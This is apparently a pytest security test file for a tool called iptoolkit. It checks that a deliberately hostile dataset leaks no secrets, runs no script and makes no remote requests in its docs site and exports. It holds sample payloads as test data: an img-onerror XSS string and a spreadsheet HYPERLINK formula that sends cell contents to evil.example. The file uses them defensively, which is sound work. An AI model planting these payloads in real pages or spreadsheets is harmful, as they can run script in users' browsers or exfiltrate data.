"""The hostile snapshot (`hostile_estate`) through every output (issue 22), each read back
by a reader we did not write: the docs site built by `mkdocs build --strict` and opened in
Chromium (no dialog fires, no request leaves the machine), DOT by `dot`, GraphML and GEXF
by an XML parser, XLSX by openpyxl, Mermaid by its own bundle in Chromium where npm is
available; the diff's outputs, the Explorer's HTML and the MCP answers show no secret."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import shutil
import subprocess
import sys
import tarfile
import warnings
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
import yaml

import iptoolkit as ipt
from iptoolkit.docsite import write_docs
from iptoolkit.docsite.navigation import NAV_TITLE
from iptoolkit.support.printable import escape_unprintable

from .browser.lab import CHROMIUM, chromium_page
from .hostile_estate import NAMES, SCRIPT, SECRETS, hostile_estate

FORMULA_START = ("=", "+", "-", "@")


@pytest.fixture(scope="module")
def estate() -> ipt.Estate:
    return hostile_estate()


def test_unprintable_text_is_dropped_from_files_and_escaped_in_messages() -> None:
    """Two jobs, two names: what a file holds drops what no reader sees; a message on a
    terminal shows it as an escape; `shorten` cuts one line."""
    from iptoolkit.support.printable import drop_unprintable, escape_unprintable, shorten

    hostile = "Acme\x00\x1b[31m\u202eevil\tname\n"
    assert drop_unprintable(hostile) == "Acme[31m\u202eevil\tname\n"
    assert escape_unprintable(hostile) == "Acme\\x00\\x1b[31m\\u202eevil\\tname\\n"
    assert shorten("Orders,  from\nAcme", 9) == "Orders…"
    assert shorten("Orders from Acme", 20) == "Orders from Acme"


def test_names_with_control_characters_are_measured_without_glyph_warnings(
    estate: ipt.Estate,
) -> None:
    """Issue 44, item 15: measuring a label asked the font for a tab's, a line break's and
    a NUL's glyph, and `iptoolkit docs` filled stderr with "Glyph missing" warnings."""
    import io
    import warnings

    from iptoolkit.plot.labels import _advance

    _advance.cache_clear()  # a warning comes once per character, with the cache empty
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        for group_by in (False, "group"):
            ipt.plot_topology(estate, group_by=group_by).savefig(io.BytesIO(), format="svg")
    assert [str(w.message) for w in caught if "Glyph" in str(w.message)] == []


def _no_secret(text: str, where: str) -> None:
    for secret in SECRETS:
        assert secret not in text, f"{secret} in {where}"


# -- the docs site ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, estate: ipt.Estate) -> Path:
    folder = tmp_path_factory.mktemp("hostile-docs")
    previous = ipt.Estate.from_raw(
        [dict(raw, name=f"{raw.get('name')} old") for raw in estate.raw_profiles]
    )
    write_docs(estate, folder, previous=previous, workers=1)
    return folder


def test_mkdocs_yml_is_valid_yaml_with_inert_titles(site: Path) -> None:
    config = yaml.safe_load((site / "mkdocs.yml").read_text(encoding="utf-8"))
    assert config["theme"] == {"name": "mkdocs", "highlightjs": False, "custom_dir": "overrides"}
    partners = next(entry["Partners"] for entry in config["nav"] if "Partners" in entry)
    titles = [next(iter(entry)) for entry in partners]
    pages = [next(iter(entry.values())) for entry in partners]
    assert len(pages) == len(set(pages)) == len(NAMES), "one page per partner, none shared"
    assert all("<" not in title and len(html.unescape(title)) <= NAV_TITLE for title in titles)
    assert "&lt;img src=x onerror=alert(document.domain) &gt;" in titles
    assert not any(ch in (site / "mkdocs.yml").read_text() for ch in "\x00\x7f\x85\uffff")


def test_groups_that_collide_by_case_and_punctuation_get_pages_of_their_own(site: Path) -> None:
    config = yaml.safe_load((site / "mkdocs.yml").read_text(encoding="utf-8"))
    groups = next(entry["Groups"] for entry in config["nav"] if "Groups" in entry)
    pages: list[str] = []

    def walk(entries: list[Any]) -> None:
        for entry in entries:
            [value] = entry.values()
            walk(value) if isinstance(value, list) else pages.append(value)

    walk(groups)
    assert len(pages) == len(set(pages)) >= 2 * len(NAMES)  # a name, its subgroup (and `/`)
    on_disk = {p.relative_to(site / "docs").as_posix() for p in (site / "docs").glob("groups/*.md")}
    assert set(pages) == on_disk


def test_no_page_carries_a_secret_or_a_control_character(site: Path) -> None:
    partner_pages = sorted((site / "docs" / "partners").glob("*.md"))
    assert len(partner_pages) == len(NAMES)
    for path in (site / "docs").rglob("*"):
        if path.suffix in (".md", ".yml", ".csv", ".svg", ".css"):
            text = path.read_text(encoding="utf-8")
            _no_secret(text, str(path))
            assert "\x00" not in text and "\x7f" not in text, path
    charts = 0
    for path in (site / "docs").rglob("*.md"):  # Mermaid reads directives in its charts
        for chart in re.findall(r"```mermaid\n(.*?)```", path.read_text("utf-8"), re.DOTALL):
            charts += 1
            assert "%%" not in chart.replace("% %", ""), path
    assert charts > len(NAMES)


@pytest.fixture(scope="module")
def built(site: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("hostile-site")
    mkdocs = Path(sys.executable).with_name("mkdocs")
    result = subprocess.run(
        [str(mkdocs), "build", "--strict", "-f", str(site / "mkdocs.yml"), "-d", str(out)],
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert result.returncode == 0, result.stderr
    return out


@pytest.mark.browser
@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs Debian's chromium")
def test_the_built_site_runs_no_script_of_a_name_and_asks_nothing_off_the_machine(
    built: Path,
) -> None:
    pages = [built / "index.html", *sorted((built / "partners").glob("*/index.html"))]
    pages += sorted((built / "groups").glob("*/index.html"))[:6]
    dialogs: list[str] = []
    remote: list[str] = []
    with chromium_page({"width": 1200, "height": 900}) as (page, errors):

        def dismissed(dialog: Any) -> None:
            dialogs.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", dismissed)

        def route(request_route: Any) -> None:
            url = request_route.request.url
            if not url.startswith(("file://", "data:", "about:")):
                remote.append(url)
                request_route.abort()
            else:
                request_route.continue_()

        page.route("**/*", route)
        for path in pages:
            page.goto(path.as_uri())
            page.wait_for_load_state("load")
            assert page.locator("img[src='x']").count() == 0, f"an <img> from a name in {path}"
        page.goto(pages[1].as_uri())
        assert (
            "<img src=x onerror=alert(document.domain) >" in page.locator(".navbar").text_content()
        )
        page.screenshot(path=str(built.parent / "hostile-site.png"))
    assert dialogs == [], dialogs
    assert remote == [], remote
    assert not [e for e in errors if "hljs" in e], errors


# -- the exports, read by their own parsers ---------------------------------------------------


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory, estate: ipt.Estate) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile-exports")
    names = ["csv", "xlsx", "graphml", "gexf", "dot", "mmd", "md", "svg"]
    written = {}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # too big for GitHub's Mermaid: said, and irrelevant
        for name in names:
            options: dict[str, Any] = {"title": SCRIPT} if name in ("dot", "mmd", "md") else {}
            if name in ("mmd", "md"):
                options["group_by"] = False  # every item, each label a hostile name
            written[name] = ipt.export(estate, folder / f"estate.{name}", **options)
        for key in ("group", "partner"):  # group and partner names label the boxes
            written[f"{key}.mmd"] = ipt.export(
                estate, folder / f"{key}.mmd", title=SCRIPT, group_by=key
            )
    written["raw.csv"] = ipt.export(estate, folder / "raw.csv", csv_safe=False)
    return written


def test_no_export_carries_a_secret(exports: dict[str, Path]) -> None:
    for name, path in exports.items():
        if name != "xlsx":
            _no_secret(path.read_text(encoding="utf-8"), name)


@pytest.mark.skipif(shutil.which("dot") is None, reason="needs graphviz's dot")
def test_dot_reads_the_dot_export(exports: dict[str, Path]) -> None:
    result = subprocess.run(
        ["dot", "-Tsvg", str(exports["dot"])], capture_output=True, text=True, timeout=120
    )
    assert result.returncode == 0, result.stderr
    assert "Warning" not in result.stderr and "Error" not in result.stderr, result.stderr
    ET.fromstring(result.stdout)  # the SVG dot wrote is XML


def test_an_xml_parser_reads_graphml_gexf_and_svg(exports: dict[str, Path]) -> None:
    for name in ("graphml", "gexf", "svg"):
        root = ET.parse(exports[name]).getroot()
        assert root is not None
    import networkx as nx

    assert nx.read_graphml(exports["graphml"]).number_of_nodes() > 0
    assert nx.read_gexf(exports["gexf"]).number_of_nodes() > 0


def test_xlsx_holds_every_name_as_text_never_a_formula(exports: dict[str, Path]) -> None:
    import openpyxl

    book = openpyxl.load_workbook(exports["xlsx"])
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
                if isinstance(cell.value, str):
                    _no_secret(cell.value, f"{sheet.title}!{cell.coordinate}")
                    seen.add(cell.value)
    assert '=HYPERLINK("http://evil.example/?x="&A1,"click")' in seen


def test_csv_neutralises_formula_prefixes_unless_asked_not_to(exports: dict[str, Path]) -> None:
    def cells(path: Path) -> list[str]:
        with path.open(encoding="utf-8", newline="") as file:
            return [cell for row in list(csv.reader(file))[1:] for cell in row]

    safe = cells(exports["csv"])
    assert not [cell for cell in safe if cell.startswith(FORMULA_START)]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in safe
    raw = cells(exports["raw.csv"])
    assert '=HYPERLINK("http://evil.example/?x="&A1,"click")' in raw


def test_mermaid_labels_carry_no_directive_or_control_character(exports: dict[str, Path]) -> None:
    for name in ("mmd", "md", "group.mmd", "partner.mmd"):
        text = exports[name].read_text(encoding="utf-8")
        assert "%%" not in text.replace("% %", ""), name
        assert "\x00" not in text and "\uffff" not in text
    front = exports["mmd"].read_text(encoding="utf-8").split("---")[1]
    assert yaml.safe_load(front)["title"].startswith("<img")


@pytest.fixture(scope="module")
def mermaid_js(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Mermaid's own bundle, `dist/mermaid.min.js` of its npm package (one tarball fetched
    by `npm pack`, no dependency installed: mermaid-cli's `npm install` cost 45 s a run);
    skipped without npm or Chromium."""
    if shutil.which("npm") is None or not Path(CHROMIUM).exists():
        pytest.skip("needs npm and chromium for Mermaid")
    folder = tmp_path_factory.mktemp("mermaid")
    result = subprocess.run(
        ["npm", "pack", "--silent", "--pack-destination", str(folder), "mermaid@11"],
        capture_output=True, text=True, timeout=600,
    )  # fmt: skip
    if result.returncode != 0:
        pytest.skip(f"npm could not fetch mermaid: {result.stderr[-300:]}")
    (tarball,) = folder.glob("mermaid-*.tgz")
    with tarfile.open(tarball) as package:
        bundle = package.extractfile("package/dist/mermaid.min.js")
        assert bundle is not None, "mermaid's package has no dist/mermaid.min.js"
        script = folder / "mermaid.min.js"
        script.write_bytes(bundle.read())
    return script


DRAW = """async ([text, id]) => {
    await mermaid.parse(text);
    const {svg} = await mermaid.render(id, text);
    document.body.insertAdjacentHTML("beforeend", svg);
    return svg;
}"""
"""Mermaid parses a chart (throwing on a syntax error), draws it and the page shows it."""


@pytest.mark.slow
def test_mermaid_draws_the_hostile_chart(mermaid_js: Path, exports: dict[str, Path]) -> None:
    """Mermaid itself, in Chromium, at its loosest (`securityLevel: "loose"`, labels taken
    as HTML): every hostile name stays text, and the page runs no script of theirs."""
    with chromium_page({"width": 1200, "height": 900}) as (page, errors):
        page.set_content("<!doctype html><title>mermaid</title><body></body>")
        page.evaluate("() => { window.fired = []; window.alert = m => window.fired.push(m); }")
        page.add_script_tag(path=str(mermaid_js))
        page.evaluate("mermaid.initialize({startOnLoad: false, securityLevel: 'loose'})")
        for number, name in enumerate(("mmd", "group.mmd", "partner.mmd")):
            svg = page.evaluate(DRAW, [exports[name].read_text(encoding="utf-8"), f"c{number}"])
            assert "Syntax error in text" not in svg and 'class="error-icon"' not in svg, name
            ET.fromstring(svg)
            assert "<img src=x" not in svg, name  # the name is text, not an element
        assert page.locator("svg").count() == 3
        assert page.locator("img").count() == 0
        assert page.evaluate("window.fired") == [] and errors == []


# -- diff, Explorer, MCP ---------------------------------------------------------------------


def test_the_diff_outputs_show_no_secret_and_csv_no_formula(
    estate: ipt.Estate, tmp_path: Path
) -> None:
    changed = ipt.Estate.from_raw(
        [
            dict(raw, name=f"={raw.get('name')}", description=f"/x?token={SECRETS[1]}")
            for raw in estate.raw_profiles
        ]
    )
    changes = ipt.diff(estate, changed)
    for suffix in ("md", "json", "csv"):
        path = ipt.export(changes, tmp_path / f"changes.{suffix}")
        _no_secret(path.read_text(encoding="utf-8"), suffix)
    with (tmp_path / "changes.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))[1:]
    assert rows and not [c for row in rows for c in row if c.startswith(FORMULA_START)]


def test_the_explorers_details_show_no_secret_and_no_markup(estate: ipt.Estate) -> None:
    from iptoolkit.widgets import Explorer

    explorer = Explorer(estate, diagram=False, debounce=0)
    for node in ("profile:P-000", "profile:P-000-b", "channel:4000", "partner:100"):
        explorer.show_detail(node)
        shown = explorer.detail.widget.value if hasattr(explorer.detail.widget, "value") else ""
        shown = shown or _html_of(explorer.detail.widget)
        _no_secret(shown, node)
        assert SCRIPT not in shown and "<img src=x" not in shown, node


def _html_of(widget: Any) -> str:
    parts = []
    stack = [widget]
    while stack:
        current = stack.pop()
        if isinstance(getattr(current, "value", None), str):
            parts.append(current.value)
        stack.extend(getattr(current, "children", ()))
    return "\n".join(parts)


def test_the_mcp_answers_show_no_secret(estate: ipt.Estate, tmp_path: Path) -> None:
    from .test_mcp import _run

    path = tmp_path / "hostile.json"
    estate.save(path)

    async def script(session: Any) -> list[Any]:
        calls: list[tuple[str, dict[str, object]]] = [
            ("get_item", {"id": f"P-{n:03d}"}) for n in range(len(NAMES))
        ]
        calls += [("get_item", {"id": "channel:4000"}), ("find_profiles", {"limit": 100})]
        calls += [("findings", {}), ("summary", {})]
        return [await session.call_tool(name, args) for name, args in calls]

    for result in _run([str(path)], script):
        assert not result.is_error, result.content
        _no_secret(json.dumps(result.structured_content) + result.content[0].text, "MCP")


# -- reports of ids with control characters (issue 35) ---------------------------------------

RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]")
"""What no line of a report for people may hold raw: C0 (a line break ends a line), DEL,
C1, line and paragraph separators, bidi overrides."""


def test_audit_and_diff_reports_hold_hostile_ids_on_one_line_and_junit_parses(
    estate: ipt.Estate, tmp_path: Path
) -> None:
    """As the command line writes them (a real process): the audit as JUnit (read by an
    XML parser), text and CSV, the diff to the hostile snapshot a day later as text and
    CSV. An id's ESC, NUL or `\\r` shows as an escape, never raw."""
    from .hostile_estate import IDS, hostile_changed

    old, new = tmp_path / "old.json", tmp_path / "new.json"
    estate.save(old)
    hostile_changed().save(new)
    iptoolkit = str(Path(sys.executable).parent / "iptoolkit")
    runs = {f"audit {f}": ["audit", str(old), "--format", f] for f in ("junit", "text", "csv")}
    runs |= {f"diff {f}": ["diff", str(old), str(new), "--format", f] for f in ("text", "csv")}
    for name, args in runs.items():
        done = subprocess.run([iptoolkit, *args], capture_output=True, timeout=300)
        assert done.returncode == (1 if name.startswith("audit") else 0), (name, done.stderr)
        text = done.stdout.decode("utf-8")
        assert not RAW_CONTROL.findall(text), (name, set(RAW_CONTROL.findall(text)))
        _no_secret(text, name)
        if name == "audit junit":
            root = ET.fromstring(done.stdout)  # well formed
            assert int(root.get("failures") or 0) > 0
        if name.endswith("csv"):
            rows = list(csv.reader(io.StringIO(text)))
            assert len({len(row) for row in rows}) == 1, name  # no row broken by an id
    shown = escape_unprintable(IDS[0])
    assert shown == "ctl-\\x1b\\x00-id" and shown in text  # the diff names it, escaped
